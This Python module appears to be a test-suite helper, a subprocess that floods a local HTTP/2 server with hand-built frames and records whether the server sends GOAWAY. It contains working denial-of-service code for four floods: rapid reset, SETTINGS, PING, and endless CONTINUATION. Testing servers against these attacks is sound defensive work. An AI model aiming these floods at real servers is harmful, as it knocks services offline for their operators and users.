"""An HTTP/2 flooder, run as its own process by test_h2_floods.py (so its CPU use does not
slow the probe in the test process): `python -m tests.h2.flood KIND PORT SECONDS`.

Sends one flood kind over one h2c (prior knowledge) connection with hand-made frames and
never reads until it stops (its ACKs are never read), for at most SECONDS or until the
server stops taking bytes. Then it reads what the server sent and prints one JSON line:
{"kind", "sent_frames", "goaway": error code or null, "seconds"}.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def batch(kind: str, first_stream: int, count: int) -> tuple[bytes, int]:
    """`count` abusive frame groups; returns the bytes and the frames they hold."""
    if kind == "rapid-reset":
        block = Encoder().encode([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")])
        parts = []
        for i in range(count):
            sid = first_stream + 2 * i
            parts.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, block))
            parts.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
        return b"".join(parts), 2 * count
    if kind == "settings":
        return frame(SETTINGS, 0, 0) * count, count
    if kind == "ping":
        return frame(PING, 0, 0, b"12345678") * count, count
    if kind == "continuation":
        return frame(CONTINUATION, 0, 1, b"\x00" * 16) * count, count
    raise SystemExit(f"unknown flood {kind}")


def find_goaway(data: bytes) -> int | None:
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        if data[at + 3] == GOAWAY and at + 9 + length <= len(data):
            return int.from_bytes(data[at + 13 : at + 17], "big")
        at += 9 + length
    return None


def main() -> None:
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    if kind == "continuation":
        # A header block that never ends: HEADERS without END_HEADERS, then CONTINUATIONs.
        sock.sendall(frame(HEADERS, 0, 1, b"\x82"))
    sock.settimeout(1.0)
    started = time.monotonic()
    sent = 0
    stream = 1
    try:
        while time.monotonic() - started < seconds:
            data, frames = batch(kind, stream, 200)
            sock.sendall(data)
            sent += frames
            stream += 400
    except OSError:
        pass  # the server closed, or stopped reading (a send blocked for 1 s)
    elapsed = time.monotonic() - started
    received = b""
    sock.settimeout(3.0)
    try:
        while find_goaway(received) is None:
            chunk = sock.recv(1 << 20)
            if not chunk:
                break
            received += chunk
    except OSError:
        pass
    sock.close()
    print(json.dumps({"kind": kind, "sent_frames": sent, "goaway": find_goaway(received), "seconds": elapsed}))


if __name__ == "__main__":
    main()
